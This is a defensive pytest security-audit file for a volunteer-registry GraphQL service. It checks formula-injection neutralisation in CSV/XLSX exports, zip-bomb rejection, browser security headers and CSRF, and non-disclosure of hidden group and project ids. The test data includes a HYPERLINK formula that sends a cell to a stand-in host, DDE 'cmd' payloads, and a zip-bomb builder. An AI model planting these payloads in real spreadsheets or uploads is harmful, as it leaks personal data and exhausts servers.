"""Audit round 5: the surfaces the sweep of round 4 did not reach.

- **Formula injection in exports**: a volunteer registers through the API as
  ``=HYPERLINK(…)``, a recorder writes a record whose content and place start with
  ``+``, ``-`` and ``@``; the group's admin downloads every kind of export it may
  (records, volunteers, hours by volunteer) as CSV and XLSX. No cell may be a formula
  a spreadsheet evaluates: each text cell starting with ``=``, ``+``, ``-``, ``@``,
  a tab or a carriage return reads back with a leading apostrophe, and no XLSX cell
  is of formula type (openpyxl wrote ``=…`` text as a live formula before).

- **Zip bombs**: an XLSX of a few hundred KiB whose zip holds hundreds of MiB (a
  padding part, or shared strings openpyxl would read whole into memory) is refused
  as ``INVALID`` on ``file`` before openpyxl opens it; before, it was opened.
- **Pages a browser shows** (GraphiQL, the admin, the public verification page,
  an export file): not to be framed by another site (``X-Frame-Options: DENY``), no
  type sniffing, no referrer to other sites; the admin's session and CSRF cookies
  ``HttpOnly`` (the session) and ``SameSite=Lax``; an admin form posted without its
  CSRF token refused. A guard: these held before this round and must stay.
- **Ids a caller may not see** (found by ``tests/test_sweep_arguments.py``): a
  pending group or a draft project named in an argument gets exactly the answer an
  id with no row gets — ``complaints(groupId:)`` named the pending group,
  ``publicity(projectId:|groupId:)`` answered a draft's or pending group's empty
  notice, ``volunteers(filter: {groupId})`` told the group's row number, and
  ``/groups/<id>/certificate`` answered 403 (not 404) for a pending group.

Seeds: 000 Art.3 and Art.15 (personal information protected: an export carries ID
numbers and phones, which a formula in the same sheet can send elsewhere).
"""

from __future__ import annotations

import csv
import io
from urllib.parse import urlsplit

import openpyxl
import pytest

from tests.records_support import ADD_MEMBER, CREATE_PROJECT, RECORD, days_ago, entry, stage
from tests.registry_support import (
    accept_invitations,
    hierarchy,
    login,
    region,
    register,
    register_volunteer,
    volunteer_input,
)
from tests.support import gid

SLUG = "chongqing"
HOST = f"{SLUG}.localhost"
REGISTER = """mutation($input: RegisterVolunteerInput!) { registerVolunteer(input: $input) {
  volunteer { number } errors { field code message } } }"""
EXPORT = """mutation($input: ExportInput!) { exportLink(input: $input) { url
  errors { field code message } } }"""

# What a spreadsheet would run, as an attacker writes them (OWASP "CSV Injection").
NAME = '=HYPERLINK("http://x.example/?"&G2,"点击")'
CONTENT = "+cmd|' /C calc'!A0"
PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def injected(server):
    """A team's admin and the ids an export of the team shows: a volunteer named as a
    formula, with a counted record whose content and place are formulas."""
    from tests.support import GraphQLClient

    gql = GraphQLClient(server.base_url)
    s = stage(gql, SLUG, participants=0)
    data = volunteer_input(name=NAME)
    body = gql.region(SLUG, REGISTER, {"input": data})
    made = body["data"]["registerVolunteer"]
    assert made["errors"] == [], body
    number = made["volunteer"]["number"]
    added = gql.region(SLUG, ADD_MEMBER, {"g": gid(SLUG, s.h.team), "n": number}, token=s.admin)
    assert added["data"]["addMember"]["errors"] == [], added
    accept_invitations(SLUG, number)
    for start, end, content, place in (
        ("09:00", "11:00", CONTENT, PLACE),
        ("13:00", "15:00", MINUS, "=1+1"),
    ):
        record = {**entry(days_ago(3), start, end, "2", content), "place": place}
        made = gql.region(
            SLUG, RECORD, {"p": s.project_id, "n": number, "input": record}, token=s.recorder
        )["data"]["recordHours"]
        assert made["errors"] == [], made
    login(gql, SLUG, data["username"])  # the account works: a real registration
    return gql, s


def _download(gql, token, **input_) -> bytes:
    body = gql.region(SLUG, EXPORT, {"input": input_}, token=token)
    payload = body["data"]["exportLink"]
    assert payload["errors"] == [], payload
    parts = urlsplit(payload["url"])
    response = gql.http.get(f"{parts.path}?{parts.query}", headers={"Host": HOST})
    assert response.status_code == 200, response.text[:300]
    return response.content


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(body: bytes) -> tuple[list[str], list[str]]:
    """Every text cell's value, and the coordinates of any formula cell."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))  # not read-only: data types kept
    texts, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["CSV", "XLSX"])
@pytest.mark.parametrize("kind", ["RECORDS", "VOLUNTEERS", "HOURS_BY_VOLUNTEER"])
def test_no_export_cell_is_a_formula(injected, kind, fmt):
    gql, s = injected
    body = _download(gql, s.admin, kind=kind, format=fmt, groupId=gid(SLUG, s.h.team))
    formulas: list[str] = []
    if fmt == "CSV":
        texts = _csv_cells(body)
    else:
        texts, formulas = _xlsx_cells(body)
    assert not formulas, formulas
    live = [t for t in texts if t.startswith(FORMULA_STARTS) and not _is_number(t)]
    assert not live, live
    # Neutralised, not lost: the text as written, behind one apostrophe.
    expected = {NAME} | ({CONTENT, PLACE, MINUS, "=1+1"} if kind == "RECORDS" else set())
    assert {"'" + text for text in expected} <= set(texts), texts


# --- ids a caller may not see ----------------------------------------------------------

COMPLAINTS = "query($g: ID) { complaints(groupId: $g) { id } }"
PUBLICITY = """query($p: ID, $g: ID) { publicity(projectId: $p, groupId: $g) {
  edges { cursor } } }"""
VOLUNTEERS = "query($g: ID) { volunteers(filter: {groupId: $g}) { edges { cursor } } }"


@pytest.fixture(scope="module")
def hidden(server):
    """A pending group, a draft project, and a volunteer who sees neither; with ids of
    nothing of the same kinds."""
    from schema.identity import global_id
    from tests.support import GraphQLClient

    gql = GraphQLClient(server.base_url)
    h = hierarchy(SLUG)
    pending, _ = register(SLUG, "待审核的图书馆志愿服务队", "non_hub", "district", h.district)
    admin = login(gql, SLUG, h.admins["team"])
    draft = gql.region(
        SLUG,
        CREATE_PROJECT,
        {
            "g": gid(SLUG, h.team),
            "input": {
                "name": "尚未提交的草稿项目",
                "category": "ELDERLY_AND_CHILDREN",
                "serviceTargets": "敬老院老人",
                "place": "幸福敬老院",
                "startsOn": days_ago(-10).isoformat(),
                "endsOn": days_ago(-20).isoformat(),
                "quota": 5,
                "riskNotice": "注意防滑",
                "contact": "赵联系",
            },
        },
        token=admin,
    )["data"]["createProject"]
    assert draft["errors"] == [] and draft["project"]["status"] == "DRAFT", draft
    volunteer = login(gql, SLUG, register_volunteer(SLUG)[1])
    schema = region(SLUG).schema_name
    return {
        "gql": gql,
        "token": volunteer,
        "group": (gid(SLUG, pending), global_id("VolunteerGroup", 987654321, schema=schema)),
        "project": (draft["project"]["id"], global_id("Project", 987654321, schema=schema)),
        "pending_name": pending.name,
    }


def _same(gql, token, doc, hidden_vars, nothing_vars) -> dict:
    one = gql.region(SLUG, doc, hidden_vars, token=token)
    other = gql.region(SLUG, doc, nothing_vars, token=token)
    for body in (one, other):
        for error in body.get("errors") or []:
            error.pop("locations", None)
    assert one == other, (one, other)
    return one


def test_the_volunteer_sees_neither(hidden):
    gql, token = hidden["gql"], hidden["token"]
    body = gql.region(
        SLUG,
        "query($g: ID!, $p: ID!) { group(id: $g) { id } project(id: $p) { id } }",
        {"g": hidden["group"][0], "p": hidden["project"][0]},
        token=token,
    )
    assert body["data"] == {"group": None, "project": None}, body


def test_complaints_of_a_hidden_group_as_of_none(hidden):
    body = _same(
        hidden["gql"],
        hidden["token"],
        COMPLAINTS,
        {"g": hidden["group"][0]},
        {"g": hidden["group"][1]},
    )
    assert hidden["pending_name"] not in str(body)
    assert body["errors"][0]["extensions"]["code"] == "NOT_FOUND", body


@pytest.mark.parametrize("kind", ["project", "group"])
def test_publicity_of_a_hidden_row_as_of_none(hidden, kind):
    var = "p" if kind == "project" else "g"
    body = _same(
        hidden["gql"],
        hidden["token"],
        PUBLICITY,
        {var: hidden[kind][0]},
        {var: hidden[kind][1]},
    )
    assert body["errors"][0]["extensions"]["code"] == "NOT_FOUND", body


def test_volunteers_of_a_hidden_group_as_of_none(hidden):
    """The refusal names no row number: an id hides it (schema/identity.py)."""
    body = _same(
        hidden["gql"],
        hidden["token"],
        VOLUNTEERS,
        {"g": hidden["group"][0]},
        {"g": hidden["group"][1]},
    )
    assert body["errors"][0]["extensions"]["code"] == "PERMISSION_DENIED", body


def test_certificate_image_of_a_hidden_group_as_of_none(hidden):
    gql, token = hidden["gql"], hidden["token"]
    answers = [
        gql.http.get(
            f"/groups/{group}/certificate",
            headers={"Host": HOST, "Authorization": f"Bearer {token}"},
        )
        for group in hidden["group"]
    ]
    assert [a.status_code for a in answers] == [404, 404], [a.text for a in answers]
    assert answers[0].json() == answers[1].json()


# --- zip bombs -------------------------------------------------------------------------


def _bomb(part: str, size: int) -> bytes:
    """A valid volunteers workbook (headers only) with ``part`` of ``size`` bytes more,
    compressed to a few hundred KiB."""
    import zipfile

    from tests.test_bulk_import import VOLUNTEER_HEADERS, xlsx_file

    plain = xlsx_file(VOLUNTEER_HEADERS, [])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for item in source.infolist():
            if item.filename != part:
                target.writestr(item, source.read(item.filename))
        with target.open(part, "w") as padding:
            if part.endswith("sharedStrings.xml"):
                cell = b"<si><t>x</t></si>"
                padding.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/')
                padding.write(b'2006/main">')
                block = cell * (1 << 16)
                for _ in range(size // len(block)):
                    padding.write(block)
                padding.write(b"</sst>")
            else:
                block = b"\0" * (1 << 20)
                for _ in range(size // len(block)):
                    padding.write(block)
    return out.getvalue()


@pytest.mark.parametrize(
    ("part", "size"),
    [("xl/media/padding.bin", 400 << 20), ("xl/sharedStrings.xml", 40 << 20)],
    ids=["padding", "shared strings"],
)
def test_a_zip_bomb_is_refused_before_it_is_opened(injected, part, size):
    from tests.test_bulk_import import upload

    gql, s = injected
    content = _bomb(part, size)
    assert len(content) < 1 << 20, len(content)  # well within the 5 MiB upload limit
    body = upload(
        gql, SLUG, "VOLUNTEERS", content, token=s.admin, group=gid(SLUG, s.h.team),
        filename="rows.xlsx",
    )  # fmt: skip
    payload = body["data"]["importRows"]
    assert [(e["field"], e["code"]) for e in payload["errors"]] == [("file", "INVALID")], body
    assert "unpacks" in payload["errors"][0]["message"], body


# --- pages a browser shows --------------------------------------------------------------


def test_browser_pages_refuse_framing_sniffing_and_forgery(server):
    from tests.registry_support import authority_account
    from tests.test_region_admin import AdminSession

    session = AdminSession(server)
    pages = {
        "GraphiQL": session.http.get("/graphql", headers={"Accept": "text/html"}),
        "admin login": session.http.get("/admin/login/"),
        "verification page": session.http.get("/certificates/verify"),
    }
    for name, page in pages.items():
        assert page.status_code == 200, (name, page.status_code)
        assert page.headers.get("X-Frame-Options") == "DENY", (name, page.headers)
        assert page.headers.get("X-Content-Type-Options") == "nosniff", (name, page.headers)
        assert page.headers.get("Referrer-Policy") == "same-origin", (name, page.headers)
    # A form posted from another site carries the cookie but not the page's token.
    forged = session.http.post(
        "/admin/login/", data={"username": "x", "password": "y", "next": "/admin/"}
    )
    assert forged.status_code == 403, forged.status_code
    login = session.login(authority_account(SLUG))
    assert login.status_code == 302, login.status_code
    cookies = {
        header.split("=", 1)[0]: {part.strip().lower() for part in header.split(";")[1:]}
        for header in login.headers.get_list("set-cookie")
    }
    assert {"httponly", "samesite=lax"} <= cookies["sessionid"], cookies
    assert "samesite=lax" in cookies["csrftoken"], cookies
